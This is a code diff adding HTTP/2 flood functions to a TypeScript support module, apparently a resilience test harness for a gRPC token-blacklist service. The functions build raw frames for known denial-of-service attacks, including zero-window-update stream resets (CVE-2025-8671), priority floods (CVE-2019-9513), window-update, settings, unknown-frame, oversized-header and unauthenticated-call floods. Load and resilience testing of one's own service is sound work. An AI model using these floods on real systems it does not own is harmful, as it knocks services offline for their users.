@@ -1,4 +1,14 @@
-import { callHeaders, FLAG, FRAME, frame, headerBlock, RawHttp2, streamId } from "../support/raw-http2.ts";
+import {
+  callHeaders,
+  FLAG,
+  FRAME,
+  frame,
+  headerBlock,
+  RawHttp2,
+  setting,
+  streamId,
+  uint32,
+} from "../support/raw-http2.ts";
 
 export interface Flood {
   /** Frames that were sent, or streams that were begun. */
@@ -99,4 +109,117 @@ export function openStreams(address: string, extent: Partial<Extent> = {}): Prom
     return frame(FRAME.headers, FLAG.endHeaders, streamId(index), large);
   };
   return flood(address, next, { count: 3000, ...extent });
+}
+
+/** Begins streams and has the service reset each, by a WINDOW_UPDATE of 0 (CVE-2025-8671): for the service the stream has ended, for its counts too. */
+export function madeResets(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
+  const beginAndBreak = (index: number) =>
+    Buffer.concat([
+      frame(FRAME.headers, FLAG.endHeaders, streamId(index), CALL),
+      frame(FRAME.windowUpdate, 0, streamId(index), uint32(0)),
+    ]);
+  return flood(address, beginAndBreak, { count: 20_000, ...extent });
+}
+
+/** Gives streams that do not exist a priority (CVE-2019-9513): each time another one's. */
+export function priorities(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
+  const next = (index: number) =>
+    frame(
+      FRAME.priority,
+      0,
+      streamId(index % 10_000),
+      Buffer.concat([uint32(streamId((index * 7 + 1) % 10_000)), Buffer.from([index % 256])]),
+    );
+  return flood(address, next, { count: 500_000, ...extent });
+}
+
+/** Enlarges the connection's window by one byte, again and again. */
+export function windowUpdates(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
+  return flood(address, () => frame(FRAME.windowUpdate, 0, 0, uint32(1)), { count: 500_000, ...extent });
+}
+
+/** Begins a thousand streams, then changes the initial window, with which each of their windows changes. */
+export function windowChanges(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
+  const next = (index: number) =>
+    index < 1000
+      ? frame(FRAME.headers, FLAG.endHeaders, streamId(index), CALL)
+      : frame(FRAME.settings, 0, 0, setting(4, index % 2 === 0 ? 0 : 65_535));
+  return flood(address, next, { count: 100_000, ...extent });
+}
+
+/** Sends frames of a type that nobody knows, and GOAWAY in between: both are to be passed over. */
+export function unknownFrames(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
+  const goaway = frame(FRAME.goaway, 0, 0, Buffer.alloc(8));
+  const next = (index: number) => (index % 2 === 0 ? frame(0xbe, 0, 0, Buffer.alloc(64)) : goaway);
+  return flood(address, next, { count: 500_000, ...extent });
+}
+
+/** Begins calls and ends each by trailers of nearly the bound on headers. */
+export function trailers(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
+  const large = headerBlock({ "x-trailer": "t".repeat(15_000) });
+  const next = (index: number) =>
+    Buffer.concat([
+      frame(FRAME.headers, FLAG.endHeaders, streamId(index), CALL),
+      frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, streamId(index), large),
+    ]);
+  return flood(address, next, { count: 5000, ...extent });
+}
+
+/** Begins calls with more fields of headers than are allowed, each of a few bytes. */
+export function manyHeaders(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
+  const fields = headerBlock(
+    Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`x-${index}`, "y"])),
+  );
+  const next = (index: number) =>
+    frame(FRAME.headers, FLAG.endHeaders, streamId(index), Buffer.concat([CALL, fields]));
+  return flood(address, next, { count: 5000, ...extent });
+}
+
+/**
+ * Makes whole calls that need no credential, or are refused for want of one, with a name of service, method and host each time another.
+ */
+export function names(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
+  const next = (index: number) => {
+    const path = `/${"unknown".padEnd(index % 200, "u")}.Service${index}/Method${index}`;
+    const headers = callHeaders(path, { "user-agent": `agent-${index}`, [`x-${index}`]: "y" });
+    return frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, streamId(index), headers);
+  };
+  return flood(address, next, { count: 20_000, ...extent });
+}
+
+/** Makes whole calls of a method that needs a credential, without one. With `read: false` none of the answers is read. */
+export function unauthenticatedCalls(
+  address: string,
+  {
+    path = "/tokenblacklist.v1.TokenBlacklist/Blacklist",
+    ...extent
+  }: Partial<Extent> & { path?: string } = {},
+): Promise<Flood> {
+  const call = callHeaders(path);
+  const next = (index: number) =>
+    Buffer.concat([
+      frame(FRAME.headers, FLAG.endHeaders, streamId(index), call),
+      frame(FRAME.data, FLAG.endStream, streamId(index), Buffer.alloc(5)),
+    ]);
+  return flood(address, next, { count: 20_000, ...extent });
+}
+
+/** Makes whole calls whose deadline, path and metadata are as large as headers may be, or absurd. */
+export function hugeHeaders(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
+  const kinds = [
+    callHeaders("/tokenblacklist.v1.TokenBlacklist/List", { "grpc-timeout": "99999999H" }),
+    callHeaders("/tokenblacklist.v1.TokenBlacklist/List", { "grpc-timeout": "9".repeat(15_000) }),
+    callHeaders(`/${"p".repeat(15_000)}`),
+    callHeaders("/tokenblacklist.v1.TokenBlacklist/List", { "x-any-bin": "A".repeat(15_000) }),
+    callHeaders("/tokenblacklist.v1.TokenBlacklist/List", { authorization: `Bearer ${"e".repeat(15_000)}` }),
+    callHeaders("/tokenblacklist.v1.TokenBlacklist/List", { traceparent: "0".repeat(15_000) }),
+  ];
+  const next = (index: number) =>
+    frame(
+      FRAME.headers,
+      FLAG.endHeaders | FLAG.endStream,
+      streamId(index),
+      kinds[index % kinds.length] as Buffer,
+    );
+  return flood(address, next, { count: 5000, ...extent });
 }
